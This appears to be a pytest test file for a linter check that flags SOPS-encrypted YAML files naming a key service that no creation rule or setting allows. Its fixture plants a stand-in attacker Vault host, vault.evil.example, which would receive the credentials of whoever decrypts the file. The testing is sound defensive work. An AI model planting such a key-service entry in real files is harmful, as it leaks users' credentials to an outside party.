"""Where the credentials go of whoever opens a file."""

import pytest

from confledger.checks.examined import Tree
from confledger.checks.secrets import key_service
from governed import ADA, examples, found, rules, sealed, told

R = ".sops.yaml"
VAULT = """\
  hc_vault:
    - vault_address: https://vault.evil.example
      engine_path: transit
      key_name: k
      enc: x
"""
FILE = sealed(ADA, extra=VAULT)
ASKED = (
    "a.yaml:{} error who opens this file sends their credentials to {}, and neither a creation "
    "rule nor the settings allow that"
)


@pytest.mark.parametrize(("heading", "tree"), examples(key_service))
def test_the_examples_of_its_page(heading: str, tree: Tree) -> None:
    assert bool(told(key_service, tree)) == (heading == "Bad")


@pytest.mark.parametrize(
    ("files", "allowed", "expected"),
    [
        ({"a.yaml": FILE}, [], [ASKED.format(8, "https://vault.evil.example")]),
        ({R: rules(ADA), "a.yaml": FILE}, [], [ASKED.format(8, "https://vault.evil.example")]),
        (
            {"a.yaml": FILE},
            ["https://vault.example/*"],
            [ASKED.format(8, "https://vault.evil.example")],
        ),
        ({"a.yaml": FILE}, ["https://vault.evil.example"], []),
        (
            {
                R: rules(
                    ADA, extra="    hc_vault_transit_uri: https://vault.evil.example/v1/x/keys/y\n"
                ),
                "a.yaml": FILE,
            },
            [],
            [],
        ),
        ({"a.yaml": sealed(ADA)}, [], []),
        ({R: rules(ADA), "a.yaml": "a: 1\n"}, [], []),
        (
            {
                "a.yaml": sealed(
                    ADA, extra="  kms:\n    - arn: arn:aws:kms:x:1:key/k\n      enc: x\n"
                )
            },
            [],
            [ASKED.format(8, "arn:aws:kms:x:1:key/k")],
        ),
    ],
)
def test_a_service_that_nobody_allowed_is_named(
    files: dict[str, str], allowed: list[str], expected: list[str]
) -> None:
    assert told(key_service, files, key_services=allowed) == expected


def test_it_says_not_to_open_the_file() -> None:
    (one,) = found(key_service, {"a.yaml": FILE})
    assert (one.help or "").startswith("do not decrypt it unless you know the service")
    assert one.subject == "https://vault.evil.example/v1/transit/keys/k"
